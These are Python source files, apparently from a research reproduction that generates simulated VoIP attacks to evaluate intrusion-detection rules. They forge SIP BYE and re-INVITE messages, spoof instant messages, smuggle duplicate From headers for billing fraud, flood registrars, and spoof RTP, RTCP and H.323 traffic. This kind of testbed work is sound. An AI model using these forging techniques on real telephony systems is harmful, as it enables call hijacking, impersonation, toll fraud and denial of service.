            handle.call_id,
            7,
        )
        frames = [
            self._udp(when, attacker, handle.callee, SIP_PORT, SIP_PORT, bye)
        ]
        return frames, handle.call_id, when

    def forged_reinvite(
        self, attacker: Subscriber, handle: CallHandle, when: float
    ) -> tuple[list[TimedFrame], str, float]:
        """Call hijack: re-INVITE claiming the callee's media moved to
        the attacker.  The callee's RTP from the old endpoint becomes
        the orphan flow (and, post-redirect, a rogue source)."""
        from_addr = NameAddr(handle.callee.uri).with_tag(handle.callee_tag)
        to_addr = NameAddr(handle.caller.uri).with_tag(handle.caller_tag)
        hijack_port = self.next_media_port(attacker)
        sdp = audio_offer(
            attacker.ip,
            hijack_port,
            session_id=str(self._next_serial()),
            version="2",
            user=handle.callee.user,
        ).encode()
        reinvite = self._request(
            METHOD_INVITE,
            handle.caller.uri,
            attacker,
            from_addr,
            to_addr,
            handle.call_id,
            8,
            body=sdp,
            content_type="application/sdp",
        )
        frames = [
            self._udp(when, attacker, handle.caller, SIP_PORT, SIP_PORT, reinvite)
        ]
        return frames, handle.call_id, when

    def forged_im(
        self,
        attacker: Subscriber,
        victim: Subscriber,
        receiver: Subscriber,
        when: float,
    ) -> tuple[list[TimedFrame], str, float]:
        """Fake IM: a MESSAGE claiming the victim's AoR from the
        attacker's address, inside the victim's mobility window."""
        call_id = self.new_call_id()
        from_addr = NameAddr(victim.uri).with_tag(self._tag())
        to_addr = NameAddr(receiver.uri)
        body = b"wire $10000 to account 1337 immediately"
        message = self._request(
            METHOD_MESSAGE,
            receiver.uri,
            attacker,
            from_addr,
            to_addr,
            call_id,
            1,
            body=body,
            content_type="text/plain",
        )
        frames = [
            self._udp(when, attacker, receiver, SIP_PORT, SIP_PORT, message)
        ]
        return frames, call_id, when

    def rtp_injection(
        self,
        attacker: Subscriber,
        handle: CallHandle,
        when: float,
        rng,
        garbage_count: int = 4,
        wild_count: int = 2,
    ) -> tuple[list[TimedFrame], str, float]:
        """The RTP attack: garbage datagrams on the callee's media port
        (→ RTP-003) plus valid-RTP packets with wild sequence numbers
        from an unnegotiated source (→ RTP-001 / RTP-002)."""
        frames: list[TimedFrame] = []
        attacker_port = self.next_media_port(attacker)
        dst = handle.callee_media
        for i in range(garbage_count):
            # First byte masked to version 0/1 so neither the RTP nor the
            # RTCP sniffer claims it: it lands as garbage-on-media-port.
            raw = bytes([rng.getrandbits(8) & 0x3F]) + bytes(
                rng.getrandbits(8) for _ in range(31)
            )
            frames.append(
                self._udp(
                    when + i * 0.15,
                    attacker,
                    handle.callee,
                    attacker_port,
                    dst.port,
                    raw,
                )
            )
        for i in range(wild_count):
            packet = RtpPacket(
                payload_type=0,
                sequence=rng.randrange(0x9000, 0xF000),
                timestamp=rng.getrandbits(32),
                ssrc=rng.getrandbits(32),
                payload=b"\xde" * 24,
            )
            frames.append(
                self._udp(
                    when + 0.05 + i * 0.20,
                    attacker,
                    handle.callee,
                    attacker_port,
                    dst.port,
                    packet.encode(),
                )
            )
        return frames, handle.call_id, when

    def register_flood(
        self, attacker: Subscriber, victim: Subscriber, when: float, burst: int = 6
    ) -> tuple[list[TimedFrame], str, float]:
        """REGISTER DoS: unauthenticated REGISTERs ignoring 401s."""
        call_id = self.new_call_id()
        tag = self._tag()
        from_addr = NameAddr(victim.uri).with_tag(tag)
        to_addr = NameAddr(victim.uri)
        registrar_uri = SipUri(user="", host=self.domain)
        frames: list[TimedFrame] = []
        nonce = f"{self._next_serial():032x}"
        challenge_extra = (
            (
                "WWW-Authenticate",
                f'Digest realm="{self.domain}", nonce="{nonce}", algorithm=MD5',
            ),
        )
        for i in range(burst + 1):
            register = self._request(
                METHOD_REGISTER,
                registrar_uri,
                attacker,
                from_addr,
                to_addr,
                call_id,
                i + 1,
            )
            challenge = self._response(
                STATUS_UNAUTHORIZED,
                None,
                from_addr,
                to_addr.with_tag(self._tag()),
                call_id,
                i + 1,
                METHOD_REGISTER,
                extra=challenge_extra,
            )
            t = when + i * 0.30
            frames.append(
                self._udp(
                    t, attacker, self._registrar_stub(), SIP_PORT, SIP_PORT, register
                )
            )
            frames.append(self._registrar_udp(t + 0.05, attacker, challenge))
        return frames, call_id, when

    # -- volumetric flood ladders ---------------------------------------------
    #
    # Pressure workloads for the overload-control plane.  Each emits
    # exactly ``packets`` attacker frames at ``pps`` and returns the same
    # ``(frames, session, injection_time)`` shape as the attack ladders.
    # ``session`` is "" — a flood spans thousands of Call-IDs (or none),
    # so ground truth labels it by attacker address and time window.

    def invite_flood(
        self,
        attacker: Subscriber,
        victim: Subscriber,
        when: float,
        packets: int,
        pps: float,
    ) -> tuple[list[TimedFrame], str, float]:
        """INVITE flood: fresh Call-ID per frame so every INVITE opens a
        new dialog — the worst case for the signalling broadcast plane."""
        interval = 1.0 / pps
        to_addr = NameAddr(victim.uri)
        frames: list[TimedFrame] = []
        for i in range(packets):
            from_addr = NameAddr(attacker.uri).with_tag(self._tag())
            invite = self._request(
                METHOD_INVITE,
                victim.uri,
                attacker,
                from_addr,
                to_addr,
                self.new_call_id(),
                1,
            )
            frames.append(
                self._udp(
                    when + i * interval, attacker, victim, SIP_PORT, SIP_PORT, invite
                )
            )
        return frames, "", when

    def register_flood_storm(
        self,
        attacker: Subscriber,
        victim: Subscriber,
        when: float,
        packets: int,
        pps: float,
    ) -> tuple[list[TimedFrame], str, float]:
        """Sustained unauthenticated REGISTER storm against one AoR.

        A fresh Call-ID every 32 frames with CSeq climbing inside each —
        the shape of a credential-stuffing registrar flood (the §3.3
        register-dos ladder at volumetric rate, no 401s answered)."""
        interval = 1.0 / pps
        registrar_uri = SipUri(user="", host=self.domain)
        to_addr = NameAddr(victim.uri)
        frames: list[TimedFrame] = []
        call_id = self.new_call_id()
        from_addr = NameAddr(victim.uri).with_tag(self._tag())
        for i in range(packets):
            if i and i % 32 == 0:
                call_id = self.new_call_id()
                from_addr = NameAddr(victim.uri).with_tag(self._tag())
            register = self._request(
                METHOD_REGISTER,
                registrar_uri,
                attacker,
                from_addr,
                to_addr,
                call_id,
                (i % 32) + 1,
            )
            frames.append(
                self._udp(
                    when + i * interval,
                    attacker,
                    self._registrar_stub(),
                    SIP_PORT,
                    SIP_PORT,
                    register,
                )
            )
        return frames, "", when

    def rtp_flood(
        self,
        attacker: Subscriber,
        victim: Subscriber,
        when: float,
        packets: int,
        pps: float,
        rng,
    ) -> tuple[list[TimedFrame], str, float]:
        """RTP flood at a victim media port: valid-version RTP datagrams
        from an unnegotiated source, saturating the media plane."""
        interval = 1.0 / pps
        attacker_port = self.next_media_port(attacker)
        victim_port = self.next_media_port(victim)
        ssrc = rng.getrandbits(32)
        first_seq = rng.randrange(0, 0x8000)
        frames: list[TimedFrame] = []
        for i in range(packets):
            packet = RtpPacket(
                payload_type=0,
                sequence=(first_seq + i) & 0xFFFF,
                timestamp=(i * 160) & 0xFFFFFFFF,
                ssrc=ssrc,
                payload=b"\xad" * 24,
            )
            frames.append(
                self._udp(
                    when + i * interval,
                    attacker,
                    victim,
                    attacker_port,
                    victim_port,
                    packet.encode(),
                )
            )
        return frames, "", when

    # -- attack-carrier calls --------------------------------------------------

    def victim_call_with_overrun(
        self,
        caller: Subscriber,
        callee: Subscriber,
        start: float,
        attack_at_offset: float,
        overrun: float,
        pps: float,
        rng,
        overrun_party: str,
    ) -> tuple[list[TimedFrame], CallHandle, float]:
        """A call whose ``overrun_party``'s RTP keeps flowing for
        ``overrun`` seconds past ``attack_at_offset`` (the instant the
        forged teardown/redirect lands) — the orphan flow the stateful
        rules catch.  Returns (frames, handle, attack_time)."""
        call_id = self.new_call_id()
        caller_tag, callee_tag = self._tag(), self._tag()
        caller_port = self.next_media_port(caller)
        callee_port = self.next_media_port(callee)
        handle = CallHandle(
            call_id=call_id,
            caller=caller,
            callee=callee,
            caller_tag=caller_tag,
            callee_tag=callee_tag,
            caller_media=Endpoint(caller.ip, caller_port),
            callee_media=Endpoint(callee.ip, callee_port),
        )
        frames = self._call_setup(handle, start)
        media_start = start + 0.30
        attack_time = media_start + attack_at_offset
        interval = 1.0 / pps
        end_plain = attack_time  # the non-overrunning party stops here
        end_over = attack_time + overrun
        count_caller = max(
            2,
            round(
                ((end_over if overrun_party == "caller" else end_plain) - media_start)
                * pps
            ),
        )
        count_callee = max(
            2,
            round(
                ((end_over if overrun_party == "callee" else end_plain) - media_start)
                * pps
            ),
        )
        frames += self._rtp_stream(
            caller,
            callee,
            caller_port,
            callee_port,
            media_start,
            count_caller,
            interval,
            first_seq=rng.randrange(0, 0x8000),
            ssrc=rng.getrandbits(32),
        )
        frames += self._rtp_stream(
            callee,
            caller,
            callee_port,
            caller_port,
            media_start + interval / 2,
            count_callee,
            interval,
            first_seq=rng.randrange(0, 0x8000),
            ssrc=rng.getrandbits(32),
        )
        return frames, handle, attack_time


def garbage_is_undecodable(payload: bytes) -> bool:
    """Sanity helper for tests: the forged garbage must not accidentally
    parse as RTP (version 2 in the top bits)."""
    return len(payload) < 12 or (payload[0] >> 6) != 2
