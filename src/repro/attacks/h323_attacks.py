"""The forged RELEASE COMPLETE attack — the H.323 twin of the BYE attack.

H.225 call signalling is cleartext and unauthenticated, exactly like
SIP: an attacker sniffing the segment learns a live call's CRV and the
terminals' signalling addresses, then sends a forged RELEASE COMPLETE
to one party.  That party stops its media; the other keeps streaming —
an orphan flow, caught by the H323-001 rule with the same machinery as
the SIP case.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.attacks.base import AttackReport
from repro.h323.h225 import H225Error, H225Message, MessageType
from repro.h323.testbed import H323Testbed
from repro.net.addr import Endpoint
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    PacketError,
    UdpDatagram,
)


@dataclass(slots=True)
class SpiedH323Call:
    crv: int
    caller_signaling: Endpoint | None = None
    callee_signaling: Endpoint | None = None
    media: dict[str, Endpoint] = field(default_factory=dict)
    connected: bool = False
    released: bool = False


class H225Spy:
    """Passively reconstructs H.323 calls off the hub."""

    def __init__(self, testbed: H323Testbed) -> None:
        self.calls: dict[int, SpiedH323Call] = {}
        testbed.attacker_eye.subscribe(self._on_frame)

    def _on_frame(self, frame: bytes, now: float) -> None:
        try:
            eth = EthernetFrame.decode(frame)
            if eth.ethertype != ETHERTYPE_IPV4:
                return
            ip = IPv4Packet.decode(eth.payload)
            if ip.protocol != IPPROTO_UDP or ip.is_fragment:
                return
            udp = UdpDatagram.decode(ip.payload, ip.src, ip.dst)
            if udp.src_port != 1720 and udp.dst_port != 1720:
                return
            message = H225Message.decode(udp.payload)
        except (PacketError, H225Error):
            return
        call = self.calls.setdefault(message.call_reference, SpiedH323Call(crv=message.call_reference))
        src = Endpoint(ip.src, udp.src_port)
        if message.message_type == MessageType.SETUP:
            call.caller_signaling = src
            if message.media is not None and message.calling_party:
                call.media[message.calling_party] = message.media
        elif message.message_type == MessageType.CONNECT:
            call.callee_signaling = src
            call.connected = True
            if message.media is not None and message.called_party:
                call.media[message.called_party] = message.media
        elif message.message_type == MessageType.RELEASE_COMPLETE:
            call.released = True

    def newest_live_call(self) -> SpiedH323Call | None:
        live = [c for c in self.calls.values() if c.connected and not c.released]
        return live[-1] if live else None


class ForgedReleaseAttack:
    """Send a forged RELEASE COMPLETE to terminal A."""

    name = "h323-forged-release"

    def __init__(self, testbed: H323Testbed) -> None:
        self.testbed = testbed
        self.spy = H225Spy(testbed)
        self.report = AttackReport(name=self.name)
        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        call = self.spy.newest_live_call()
        if call is None or call.caller_signaling is None:
            self.report.details["error"] = "no live H.323 call observed"
            return
        release = H225Message(
            message_type=MessageType.RELEASE_COMPLETE,
            call_reference=call.crv,
            cause=16,  # "normal call clearing" — camouflage
        )
        self._socket.send_to(call.caller_signaling, release.encode())
        self.report.launched_at = self.testbed.loop.now()
        self.report.completed = True
        self.report.details.update(
            {"crv": call.crv, "victim": str(call.caller_signaling)}
        )
