"""Billing fraud (paper §3.2 — the synthetic cross-protocol scenario).

"The attack is launched by the attacker exploiting a vulnerability in
the SIP proxy.  She sends a carefully crafted SIP message to fool the
proxy into believing the call is initiated by someone else.  The proxy
initiates the accounting software with the information about the
incorrect source for the call.  This allows the attacker to make calls
without being charged."

Concretely: the crafted INVITE carries a **duplicate From header**.  The
vulnerable (lenient) proxy routes by the first but its billing module
attributes the call to the last — the victim.  A strict parser (the
IDS's Distiller) rejects the message as malformed, producing the first
of the rule's three events; the unmatched accounting TXN produces the
second; the attacker's unnegotiated RTP stream toward the callee
produces the third.
"""

from __future__ import annotations

import itertools

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint, IPv4Address
from repro.rtp.codec import ToneSource
from repro.rtp.packet import RtpPacket
from repro.sip.constants import METHOD_ACK, METHOD_INVITE
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
from repro.sip.sdp import SdpError, SessionDescription, audio_offer
from repro.sip.uri import SipUri
from repro.voip.testbed import Testbed


class BillingFraudAttack:
    """Place a real call to B billed to the victim's account."""

    name = "billing-fraud"

    def __init__(
        self,
        testbed: Testbed,
        victim: str = "alice",
        callee: str = "bob",
        media_port: int = 47000,
        talk_packets: int = 50,
    ) -> None:
        if testbed.billing_agent is None:
            raise RuntimeError("billing fraud needs TestbedConfig(with_billing=True)")
        self.testbed = testbed
        self.victim = victim
        self.callee = callee
        self.media_port = media_port
        self.talk_packets = talk_packets
        self.agent = AttackerAgent(
            testbed.attacker_stack, testbed.loop, testbed.attacker_eye
        )
        self.agent.add_sip_listener(self._on_sip)
        self.report = AttackReport(name=self.name)
        self.call_id = f"fraud-call@{testbed.attacker_stack.ip}"
        self._media_socket = testbed.attacker_stack.bind(media_port, lambda p, s, n: None)
        self._rtcp_socket = testbed.attacker_stack.bind(media_port + 1, lambda p, s, n: None)
        self._tone = ToneSource(frequency=660.0)
        self._seq = itertools.count(20000)
        self._rtp_ts = itertools.count(0, 160)
        self._sent = 0
        self._invite: SipRequest | None = None

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    # -- the crafted INVITE ---------------------------------------------------

    def _fire(self) -> None:
        testbed = self.testbed
        domain = testbed.proxy.domain
        attacker_aor = SipUri.parse(f"sip:mallory@{domain}")
        victim_aor = SipUri.parse(f"sip:{self.victim}@{domain}")
        callee_aor = SipUri.parse(f"sip:{self.callee}@{domain}")
        request = SipRequest(method=METHOD_INVITE, uri=callee_aor)
        via = Via(
            transport="UDP",
            host=str(testbed.attacker_stack.ip),
            port=5060,
            params=(("branch", self.agent.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        # First From: routes/negotiates as the attacker (responses reach us).
        request.headers.add("From", str(NameAddr(uri=attacker_aor).with_tag("fraud")))
        request.headers.add("To", str(NameAddr(uri=callee_aor)))
        request.headers.add("Call-ID", self.call_id)
        request.headers.add("CSeq", f"1 {METHOD_INVITE}")
        request.headers.add(
            "Contact", f"<sip:mallory@{testbed.attacker_stack.ip}:5060>"
        )
        sdp = audio_offer(
            address=testbed.attacker_stack.ip,
            port=self.media_port,
            session_id="41",
            user="mallory",
        )
        request._set_body(sdp.encode(), "application/sdp")
        # THE EXPLOIT: smuggle a second From header naming the victim.
        # The vulnerable proxy's billing reads the last From; strict
        # parsers reject the message outright.
        request.headers.add("From", str(NameAddr(uri=victim_aor).with_tag("victim")))
        self._invite = request
        self.agent.send_sip(request, testbed.proxy_endpoint)
        self.report.launched_at = testbed.loop.now()
        self.report.details.update(
            {"billed_to": f"{self.victim}@{domain}", "callee": f"{self.callee}@{domain}"}
        )

    # -- completing the call ------------------------------------------------------

    def _on_sip(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = parse_message(payload)
        except SipParseError:
            return
        if not isinstance(message, SipResponse) or message.status != 200:
            return
        try:
            if message.cseq.method != METHOD_INVITE or message.call_id != self.call_id:
                return
        except Exception:
            return
        # ACK straight to the callee's contact, then start streaming.
        contact = message.contact
        if contact is None or self._invite is None:
            return
        ack = SipRequest(method=METHOD_ACK, uri=contact.uri)
        via = Via(
            transport="UDP",
            host=str(self.testbed.attacker_stack.ip),
            port=5060,
            params=(("branch", self.agent.new_branch()),),
        )
        ack.headers.add("Via", str(via))
        ack.headers.add("Max-Forwards", "70")
        ack.headers.add("From", self._invite.headers.get("From") or "")
        ack.headers.add("To", message.headers.get("To") or "")
        ack.headers.add("Call-ID", self.call_id)
        ack.headers.add("CSeq", "1 ACK")
        ack.headers.set("Content-Length", "0")
        callee_endpoint = Endpoint(IPv4Address.parse(contact.uri.host), contact.uri.port or 5060)
        self.agent.send_sip(ack, callee_endpoint)
        try:
            remote_media = SessionDescription.parse(message.body).audio_endpoint()
        except (SdpError, ValueError):
            return
        self.report.details["remote_media"] = str(remote_media)
        self._stream(remote_media)

    def _stream(self, remote: Endpoint) -> None:
        if self._sent >= self.talk_packets:
            self.report.completed = True
            self.report.details["rtp_sent"] = self._sent
            return
        packet = RtpPacket(
            payload_type=0,
            sequence=next(self._seq) & 0xFFFF,
            timestamp=next(self._rtp_ts) & 0xFFFFFFFF,
            ssrc=0xDEADBEEF,
            payload=self._tone.next_frame(),
        )
        self._media_socket.send_to(remote, packet.encode())
        self._sent += 1
        self.testbed.loop.call_later(0.020, lambda: self._stream(remote))
