"""Attacker toolkit: passive reconnaissance + packet forging.

All four paper attacks rely on SIP/RTP travelling in cleartext: the
attacker watches the hub (the testbed's ``attacker_eye`` sniffer),
learns live dialog identifiers (Call-ID, tags, CSeq, Contact, SDP media
endpoints), and then forges in-dialog requests or media packets.

:class:`DialogSpy` does the watching; :class:`AttackerAgent` owns the
attacker's sockets and the spy, and is the base every concrete attack
builds on.
"""

from __future__ import annotations

import weakref
from dataclasses import dataclass, field
from typing import Any

from repro.net.addr import Endpoint, IPv4Address
from repro.net.capture import Sniffer
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    PacketError,
    UdpDatagram,
)
from repro.net.stack import HostStack
from repro.sim.eventloop import EventLoop
from repro.sip.constants import METHOD_INVITE
from repro.sip.headers import NameAddr, Via
from repro.sip.message import SipParseError, SipRequest, SipResponse, parse_message
from repro.sip.sdp import SdpError, SessionDescription
from repro.sip.uri import SipUri


@dataclass(slots=True)
class SpiedDialog:
    """Everything the attacker has learned about one call."""

    call_id: str
    invite: SipRequest | None = None
    ok: SipResponse | None = None
    caller_signaling: Endpoint | None = None  # where the INVITE came from
    media: dict[str, Endpoint] = field(default_factory=dict)  # AoR -> endpoint
    highest_cseq: int = 0
    established: bool = False
    torn_down: bool = False

    @property
    def complete(self) -> bool:
        """Do we know enough to forge in-dialog requests?"""
        return self.invite is not None and self.ok is not None and self.established

    def caller_addr(self) -> NameAddr:
        assert self.invite is not None
        return self.invite.from_addr

    def callee_addr(self) -> NameAddr:
        assert self.ok is not None
        return self.ok.to_addr  # carries the callee's tag

    def caller_contact(self) -> SipUri:
        assert self.invite is not None
        contact = self.invite.contact
        return contact.uri if contact is not None else self.caller_addr().uri

    def callee_contact(self) -> SipUri:
        assert self.ok is not None
        contact = self.ok.contact
        return contact.uri if contact is not None else self.callee_addr().uri


class DialogSpy:
    """Passively reconstructs dialogs from sniffed frames."""

    def __init__(self) -> None:
        self.dialogs: dict[str, SpiedDialog] = {}
        self.frames_seen = 0

    def attach(self, sniffer: Sniffer) -> None:
        sniffer.subscribe(self.on_frame)

    def on_frame(self, frame: bytes, now: float) -> None:
        self.frames_seen += 1
        message, src = _extract_sip(frame)
        if message is None or src is None:
            return
        try:
            call_id = message.call_id
        except Exception:
            return
        dialog = self.dialogs.get(call_id)
        if dialog is None:
            dialog = SpiedDialog(call_id=call_id)
            self.dialogs[call_id] = dialog
        try:
            dialog.highest_cseq = max(dialog.highest_cseq, message.cseq.number)
        except Exception:
            pass
        if isinstance(message, SipRequest):
            self._on_request(dialog, message, src)
        else:
            self._on_response(dialog, message)

    def _on_request(self, dialog: SpiedDialog, message: SipRequest, src: Endpoint) -> None:
        if message.method == METHOD_INVITE:
            try:
                has_to_tag = message.to_addr.tag is not None
            except Exception:
                return
            if not has_to_tag and dialog.invite is None:
                dialog.invite = message
                dialog.caller_signaling = src
            self._learn_media(dialog, message)
        elif message.method == "BYE":
            dialog.torn_down = True
        elif message.method == "ACK":
            if dialog.ok is not None:
                dialog.established = True

    def _on_response(self, dialog: SpiedDialog, message: SipResponse) -> None:
        try:
            if message.cseq.method != METHOD_INVITE or message.status != 200:
                return
        except Exception:
            return
        dialog.ok = message
        dialog.established = True  # media follows immediately after 200
        self._learn_media(dialog, message)

    @staticmethod
    def _learn_media(dialog: SpiedDialog, message: SipRequest | SipResponse) -> None:
        content_type = message.headers.get("Content-Type") or ""
        if "application/sdp" not in content_type.lower() or not message.body:
            return
        try:
            endpoint = SessionDescription.parse(message.body).audio_endpoint()
        except SdpError:
            return
        try:
            if isinstance(message, SipRequest):
                party = message.from_addr.uri.address_of_record
            else:
                party = message.to_addr.uri.address_of_record
        except Exception:
            return
        dialog.media[party] = endpoint

    # -- queries -------------------------------------------------------------

    def live_dialogs(self) -> list[SpiedDialog]:
        return [d for d in self.dialogs.values() if d.complete and not d.torn_down]

    def newest_live_dialog(self) -> SpiedDialog | None:
        live = self.live_dialogs()
        return live[-1] if live else None


def _extract_sip(frame: bytes) -> tuple[SipRequest | SipResponse | None, Endpoint | None]:
    """Best-effort SIP extraction from a sniffed frame."""
    try:
        eth = EthernetFrame.decode(frame)
        if eth.ethertype != ETHERTYPE_IPV4:
            return None, None
        packet = IPv4Packet.decode(eth.payload)
        if packet.protocol != IPPROTO_UDP or packet.is_fragment:
            return None, None
        udp = UdpDatagram.decode(packet.payload, packet.src, packet.dst)
    except PacketError:
        return None, None
    if udp.src_port != 5060 and udp.dst_port != 5060:
        return None, None
    try:
        return parse_message(udp.payload), Endpoint(packet.src, udp.src_port)
    except SipParseError:
        return None, None


@dataclass(slots=True)
class AttackReport:
    """What an attack did, for the experiment harness."""

    name: str
    launched_at: float | None = None
    completed: bool = False
    details: dict[str, Any] = field(default_factory=dict)


class _SharedSipPort:
    """One UDP 5060 socket per attacker host, fanned out to listeners.

    Several attack tools can run on the same attacker machine (the long
    mixed-traffic scenarios do exactly that); they share the port like
    processes sharing a raw socket.
    """

    def __init__(self, stack: HostStack) -> None:
        self.socket = stack.bind(5060, self._dispatch)
        self.listeners: list = []

    def _dispatch(self, payload: bytes, src: Endpoint, now: float) -> None:
        for listener in list(self.listeners):
            listener(payload, src, now)


_SIP_PORTS: "weakref.WeakKeyDictionary[HostStack, _SharedSipPort]" = weakref.WeakKeyDictionary()


def _sip_port_for(stack: HostStack) -> _SharedSipPort:
    port = _SIP_PORTS.get(stack)
    if port is None:
        port = _SharedSipPort(stack)
        _SIP_PORTS[stack] = port
    return port


class AttackerAgent:
    """The attacker host's active half: sockets + forging primitives."""

    def __init__(self, stack: HostStack, loop: EventLoop, eye: Sniffer) -> None:
        self.stack = stack
        self.loop = loop
        self.spy = DialogSpy()
        self.spy.attach(eye)
        self.responses_received: list[SipResponse] = []
        self._port = _sip_port_for(stack)
        self._port.listeners.append(self._on_sip)
        self.sip_socket = self._port.socket
        self._branch = 0

    def add_sip_listener(self, handler) -> None:
        """Subscribe an extra raw-datagram listener on the SIP port."""
        self._port.listeners.append(handler)

    def _on_sip(self, payload: bytes, src: Endpoint, now: float) -> None:
        try:
            message = parse_message(payload)
        except SipParseError:
            return
        if isinstance(message, SipResponse):
            self.responses_received.append(message)
        # Requests to the attacker (e.g. hijacked signalling) are ignored.

    def new_branch(self) -> str:
        self._branch += 1
        return f"z9hG4bK-forged-{self._branch}"

    def forge_in_dialog_request(
        self,
        dialog: SpiedDialog,
        method: str,
        impersonate_callee: bool = True,
        cseq_bump: int = 1,
    ) -> tuple[SipRequest, Endpoint]:
        """Build an in-dialog request impersonating one party.

        Returns the request plus the victim's signalling endpoint.  With
        ``impersonate_callee`` the forged request claims to come from the
        callee and targets the caller (the paper's Figures 5 and 7, where
        client A placed the call and the attacker impersonates B).
        """
        if not dialog.complete:
            raise RuntimeError(f"dialog {dialog.call_id} not sufficiently spied")
        if impersonate_callee:
            from_addr, to_addr = dialog.callee_addr(), dialog.caller_addr()
            target_uri = dialog.caller_contact()
        else:
            from_addr, to_addr = dialog.caller_addr(), dialog.callee_addr()
            target_uri = dialog.callee_contact()
        request = SipRequest(method=method, uri=target_uri)
        via = Via(
            transport="UDP",
            host=str(self.stack.ip),
            port=5060,
            params=(("branch", self.new_branch()),),
        )
        request.headers.add("Via", str(via))
        request.headers.add("Max-Forwards", "70")
        request.headers.add("From", str(from_addr))
        request.headers.add("To", str(to_addr))
        request.headers.add("Call-ID", dialog.call_id)
        request.headers.add("CSeq", f"{dialog.highest_cseq + cseq_bump} {method}")
        request.headers.set("Content-Length", "0")
        victim = Endpoint(IPv4Address.parse(target_uri.host), target_uri.port or 5060)
        return request, victim

    def send_sip(self, message: SipRequest | SipResponse, dst: Endpoint) -> None:
        self.sip_socket.send_to(dst, message.encode())
