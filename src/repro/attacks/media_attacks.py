"""Media-plane impersonation attacks beyond Figure 8 (paper §2.2).

Two vectors the paper's background section names explicitly:

* :class:`RtcpByeAttack` — "the RTP protocol ... introduces several
  vulnerabilities due to the absence of authentication": a forged RTCP
  BYE for the peer's SSRC makes the victim's client drop the talker
  (continued silence) while the genuine stream keeps arriving — the
  RTCP-side analogue of the signalling BYE attack.
* :class:`SsrcSpoofAttack` — "An attack can also fake the SSRC field,
  which designates the source of a stream of RTP packets, to
  impersonate another participant in a call": the attacker learns B's
  SSRC off the wire and injects audio under that identity, optionally
  with plausibly-continuing sequence numbers.
"""

from __future__ import annotations

import itertools

from repro.attacks.base import AttackerAgent, AttackReport
from repro.net.addr import Endpoint
from repro.net.packet import (
    ETHERTYPE_IPV4,
    IPPROTO_UDP,
    EthernetFrame,
    IPv4Packet,
    PacketError,
    UdpDatagram,
)
from repro.rtp.codec import ToneSource
from repro.rtp.packet import RtpError, RtpPacket
from repro.rtp.rtcp import Bye, looks_like_rtcp
from repro.voip.testbed import Testbed


class _MediaSpy:
    """Learns live RTP flow parameters (SSRC, seq, endpoints) off the hub."""

    def __init__(self, testbed: Testbed) -> None:
        self.flows: dict[tuple[Endpoint, Endpoint], dict] = {}
        testbed.attacker_eye.subscribe(self._on_frame)

    def _on_frame(self, frame: bytes, now: float) -> None:
        try:
            eth = EthernetFrame.decode(frame)
            if eth.ethertype != ETHERTYPE_IPV4:
                return
            ip = IPv4Packet.decode(eth.payload)
            if ip.protocol != IPPROTO_UDP or ip.is_fragment:
                return
            udp = UdpDatagram.decode(ip.payload, ip.src, ip.dst)
            if looks_like_rtcp(udp.payload):
                return  # RTCP shares the version bits; not an RTP flow
            packet = RtpPacket.decode(udp.payload)
        except (PacketError, RtpError):
            return
        key = (Endpoint(ip.src, udp.src_port), Endpoint(ip.dst, udp.dst_port))
        self.flows[key] = {
            "ssrc": packet.ssrc,
            "last_seq": packet.sequence,
            "last_ts": packet.timestamp,
            "payload_type": packet.payload_type,
        }

    def flow_to(self, victim_ip: str) -> tuple[tuple[Endpoint, Endpoint], dict] | None:
        """The most recently seen flow terminating at the victim."""
        for key in reversed(list(self.flows)):
            if str(key[1].ip) == victim_ip:
                return key, self.flows[key]
        return None


class RtcpByeAttack:
    """Forge an RTCP BYE for the peer's SSRC toward client A."""

    name = "rtcp-bye-attack"

    def __init__(self, testbed: Testbed) -> None:
        self.testbed = testbed
        self.agent = AttackerAgent(testbed.attacker_stack, testbed.loop, testbed.attacker_eye)
        self.media_spy = _MediaSpy(testbed)
        self.report = AttackReport(name=self.name)
        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        flow = self.media_spy.flow_to(str(self.testbed.stack_a.ip))
        if flow is None:
            self.report.details["error"] = "no media flow toward the victim observed"
            return
        (src, dst), info = flow
        bye = Bye(ssrcs=(info["ssrc"],), reason="bye bye")
        # RTCP rides the odd port above the RTP port.
        target = Endpoint(dst.ip, dst.port + 1)
        self._socket.send_to(target, bye.encode())
        self.report.launched_at = self.testbed.loop.now()
        self.report.completed = True
        self.report.details.update(
            {"silenced_ssrc": info["ssrc"], "victim": str(target), "talker": str(src)}
        )


class SsrcSpoofAttack:
    """Inject audio under the peer's SSRC toward client A."""

    name = "ssrc-spoof"

    def __init__(
        self,
        testbed: Testbed,
        packets: int = 30,
        interval: float = 0.02,
        continue_sequence: bool = True,
    ) -> None:
        self.testbed = testbed
        self.packets = packets
        self.interval = interval
        self.continue_sequence = continue_sequence
        self.agent = AttackerAgent(testbed.attacker_stack, testbed.loop, testbed.attacker_eye)
        self.media_spy = _MediaSpy(testbed)
        self.report = AttackReport(name=self.name)
        self._socket = testbed.attacker_stack.bind_ephemeral(lambda *args: None)
        self._tone = ToneSource(frequency=220.0)  # the impostor's "voice"
        self._sent = 0
        self._seq = itertools.count(0)
        self._ts = itertools.count(0, 160)

    def launch_at(self, when: float) -> AttackReport:
        self.testbed.loop.call_at(when, self._fire)
        return self.report

    def launch_now(self) -> AttackReport:
        self._fire()
        return self.report

    def _fire(self) -> None:
        flow = self.media_spy.flow_to(str(self.testbed.stack_a.ip))
        if flow is None:
